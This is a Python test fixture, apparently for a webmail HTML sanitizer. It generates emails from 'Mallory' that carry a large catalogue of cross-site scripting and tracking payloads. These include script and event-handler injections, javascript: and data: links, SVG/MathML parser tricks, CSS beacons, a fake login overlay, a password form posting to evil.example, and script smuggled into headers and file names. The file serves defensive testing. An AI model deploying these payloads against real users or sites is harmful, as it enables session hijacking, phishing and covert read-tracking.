"""Letters that want to run in the reader's browser, or to tell somebody that they were read.

Whatever runs would set the page's title or open a dialog; whatever is fetched would be fetched from evil.example.
"""

import base64

RUN = "document.title='ran';alert('ran');fetch('http://evil.example/ran')"
AWAY = "http://evil.example/"

HTML = {
    # Script in the places made for it.
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script from elsewhere": f"<script src='{AWAY}x.js'></script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script without end": f"<script>{RUN}",
    "script behind NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "module": f"<script type=module>{RUN}</script>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror=\"{RUN}\">'></noscript>",
    # Handlers.
    "onerror": f"<img src=x onerror=\"{RUN}\">",
    "onerror without quotes": "<img src=x onerror=document.title='ran'>",
    "onerror with slashes": f"<img/src=x/onerror=\"{RUN}\">",
    "onload": f"<body onload=\"{RUN}\">text</body>",
    "onload of a frame": f"<iframe onload=\"{RUN}\"></iframe>",
    "ontoggle": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    "onfocus": f"<input autofocus onfocus=\"{RUN}\">",
    "onanimationstart": f"<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart=\"{RUN}\">x</b>",
    "onpointerover": f"<div style='position:fixed;inset:0' onpointerover=\"{RUN}\">x</div>",
    "onerror of a video": f"<video><source onerror=\"{RUN}\"></video>",
    "onbegin": f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    "onload of svg": f"<svg onload=\"{RUN}\"></svg>",
    "onscrollend": f"<xmp style='overflow:auto' onscrollend=\"{RUN}\">x</xmp>",
    "oncontentvisibility": f"<x oncontentvisibilityautostatechange=\"{RUN}\" style='display:block;content-visibility:auto'>x</x>",
    "onbeforetoggle": f"<button popovertarget=x>y</button><x popover onbeforetoggle=\"{RUN}\" id=x></x>",
    # Addresses that are programs.
    "javascript link": f"<a id=bait href=\"javascript:{RUN}\">click here</a>",
    "javascript link with entities": f"<a id=bait href=\"&#106;&#97;vascript&colon;{RUN}\">click here</a>",
    "javascript link with a tab": f"<a id=bait href=\"java\tscript:{RUN}\">click here</a>",
    "javascript link behind control characters": f"<a id=bait href=\"\x01 javascript:{RUN}\">click here</a>",
    "vbscript": "<a id=bait href=\"vbscript:msgbox('ran')\">click here</a>",
    "data link": f"<a id=bait href=\"data:text/html;base64,{base64.b64encode(f'<script>{RUN}</script>'.encode()).decode()}\">x</a>",
    "javascript image": f"<img src=\"javascript:{RUN}\">",
    "javascript frame": f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>",
    "javascript form": f"<form action=\"javascript:{RUN}\"><input type=submit autofocus id=bait></form>",
    "formaction": f"<form><button id=bait formaction=\"javascript:{RUN}\">x</button></form>",
    "object": f"<object data=\"javascript:{RUN}\"></object>",
    "object of data": "<object data='data:text/html,<script>document.title=1</script>'></object>",
    "embed": f"<embed src='{AWAY}x.swf'>",
    "base": f"<base href='{AWAY}'><img src='x.png'><a href='y' id=bait>x</a>",
    "base with javascript": "<base href='javascript:/a/-alert(1)///////'><a href=../lol/safari.html id=bait>x</a>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "meta refresh to a program": f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>document.title='ran'</script>",
    "link": f"<link rel=stylesheet href='{AWAY}x.css'>",
    "link prefetch": f"<link rel=prefetch href='{AWAY}p'><link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='{AWAY}'>",
    "link manifest and icon": f"<link rel=manifest href='{AWAY}m'><link rel=icon href='{AWAY}i'>",
    "import map": "<script type=importmap>{\"imports\":{\"x\":\"http://evil.example/x.js\"}}</script>",
    "speculation rules": f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{AWAY}s\"]}}]}}</script>",
    # Other languages in HTML.
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg script href": f"<svg><script href='{AWAY}x.js'></script></svg>",
    "svg use": f"<svg><use href='{AWAY}x.svg#a'></use></svg>",
    "svg image": f"<svg><image href='{AWAY}x.png'></image></svg>",
    "svg foreignObject": f"<svg><foreignObject><img src=x onerror=\"{RUN}\"></foreignObject></svg>",
    "svg a": f"<svg><a href=\"javascript:{RUN}\"><text y=20>x</text></a></svg>",
    "svg set": f"<svg><a><set attributeName=href to=\"javascript:{RUN}\"/><text y=20 id=bait>x</text></a></svg>",
    "svg style": f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN.split(';')[0]}>\">",
    "mathml": f"<math><mtext></form><form><mglyph><style></math><img src onerror=\"{RUN}\">",
    "mathml href": f"<math href=\"javascript:{RUN}\"><mi>x</mi></math>",
    "mathml annotation": f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{RUN}\"></annotation-xml></math>",
    "xml stylesheet": f"<?xml-stylesheet href=\"javascript:{RUN}\"?>",
    "cdata": f"<svg><![CDATA[><img src=x onerror=\"{RUN}\">]]></svg>",
    # What a cleaner and a browser read differently.
    "comment": f"<!--><img src=x onerror=\"{RUN}\">-->",
    "comment with a bang": f"<!--x--!><img src=x onerror=\"{RUN}\">-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "title": f"<title><a title='</title><img src=x onerror=\"{RUN}\">'></title>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror=\"{RUN}\">'></textarea>",
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror=\"{RUN}\"></template>",
    "plaintext": f"<plaintext></plaintext><img src=x onerror=\"{RUN}\">",
    "noembed": f"<noembed><p title='</noembed><img src=x onerror=\"{RUN}\">'></noembed>",
    "select": f"<select><style></select><img src=x onerror=\"{RUN}\"></style></select>",
    "table": f"<table><td><style></table><img src=x onerror=\"{RUN}\"></style>",
    "backtick": f"<div title=`><img src=x onerror=\"{RUN}\">`>",
    "quote in an attribute": f"<a title='\"><img src=x onerror={RUN.split(';')[0]}>'>x</a>",
    "entity in a tag": f"&lt;img src=x onerror=\"{RUN}\"&gt;",
    "closing what is around": f"</iframe></body></html>\"'></textarea></div></main><script>{RUN}</script>",
    "utf-7": "+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-",
    # To be noticed, or to draw over the page.
    "image": f"<img src='{AWAY}pixel.gif'>",
    "image without protocol": "<img src='//evil.example/pixel.gif'>",
    "image with backslashes": "<img src='\\\\evil.example\\pixel.gif'><img src='http:\\\\evil.example\\p.gif'>",
    "srcset": f"<img srcset='{AWAY}a.png 1x, {AWAY}b.png 2x'><picture><source srcset='{AWAY}c.png'><img></picture>",
    "lowsrc, dynsrc, longdesc": f"<img lowsrc='{AWAY}a' dynsrc='{AWAY}b' longdesc='{AWAY}c'>",
    "input image": f"<input type=image src='{AWAY}i.png'>",
    "audio, video, poster, track": f"<video poster='{AWAY}p.png' src='{AWAY}v' autoplay><track src='{AWAY}t' default></video><audio src='{AWAY}a' autoplay></audio>",
    "background": f"<table background='{AWAY}t.png'><tr><td background='{AWAY}c.png'>x</table><body background='{AWAY}b.png'>",
    "frame": f"<iframe src='{AWAY}f'></iframe><frameset><frame src='{AWAY}g'></frameset>",
    "style url": f"<p style=\"background:url({AWAY}s.png)\">x</p>",
    "style url escaped": "<p style=\"background:\\75 rl(http://evil.example/s2.png)\">x</p>",
    "style url in a comment": "<p style=\"background:u/**/rl(http://evil.example/s3.png);list-style:url('//evil.example/l')\">x</p>",
    "style image-set": f"<p style=\"background:image-set('{AWAY}s4.png' 1x);content:url({AWAY}s5);cursor:url({AWAY}s6),auto\">x</p>",
    "style variable": f"<p style=\"--x:url({AWAY}s7);background:var(--x)\">x</p>",
    "style sheet": f"<style>@import '{AWAY}i.css';body{{background:url({AWAY}b.png)}}@font-face{{font-family:x;src:url({AWAY}f)}}p{{font-family:x}}</style><p>x</p>",
    "style expression": f"<p style=\"width:expression({RUN});behavior:url({AWAY}b.htc);-moz-binding:url({AWAY}m)\">x</p>",
    "style over everything": "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:999;background:red'>LOGIN</div>",
    "ping": f"<a href='{AWAY}h' ping='{AWAY}ping' target=_top id=bait>x</a>",
    "form to elsewhere": f"<form action='{AWAY}take' target=_top><input name=password type=password><input type=submit id=bait></form>",
    "link that opens over the page": f"<a href='{AWAY}top' target=_top>x</a>",
    "dom clobbering": "<form id=body><input name=firstChild></form><a id=document><a id=document name=title><img name=cookie>",
    "manifest": f"<html manifest='{AWAY}m'>x</html>",
    "portal and fenced frame": f"<portal src='{AWAY}p'></portal><fencedframe src='{AWAY}f'></fencedframe>",
}

# Links that somebody clicks go where they say; that is no attack.
GOES_AWAY_ON_CLICK = {"ping", "form to elsewhere", "link that opens over the page", "base"}


def letters():
    """A message for each, by its name."""
    return {name: letter(name, html.encode()) for name, html in HTML.items()}


def letter(name, html, charset="utf-8"):
    body = base64.encodebytes(html).replace(b"\n", b"\r\n")
    return (f"From: Mallory <mallory@evil.example>\r\nTo: bob@hamburger.edu\r\nSubject: attack: {name}\r\n"
            f"Message-ID: <{name.replace(' ', '-').replace(',', '')}@evil.example>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n").encode() + body


def everywhere():
    """Script where no HTML belongs: names, subjects, file names, plain text, types."""
    script = "<script>document.title='ran'</script><img src=x onerror=alert(1)>\"'><b>"
    return (f"From: \"{script.replace(chr(34), '')}\" <mallory@evil.example>\r\nTo: \"{script.replace(chr(34), '')}\" <bob@hamburger.edu>\r\n"
            f"Subject: attack: everywhere {script}\r\nList-Id: {script} <x.evil.example>\r\nMessage-ID: <{script.replace('>', '').replace(' ', '')}@evil.example>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            f"--b\r\nContent-Type: text/plain\r\n\r\n{script}\r\nhttp://evil.example/\"onmouseover=alert(1)//<script> javascript:alert(1)\r\n"
            f"--b\r\nContent-Type: {script}/x; name=\"{script.replace(chr(34), '')}.html\"\r\nContent-Disposition: attachment\r\n\r\n{script}\r\n"
            f"--b\r\nContent-Type: text/html; name=page.html\r\nContent-Disposition: attachment; filename=page.html\r\n\r\n<script>{RUN}</script>\r\n"
            f"--b\r\nContent-Type: image/svg+xml; name=picture.svg\r\nContent-Disposition: inline; filename=picture.svg\r\n\r\n"
            f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>\r\n--b--\r\n").encode()
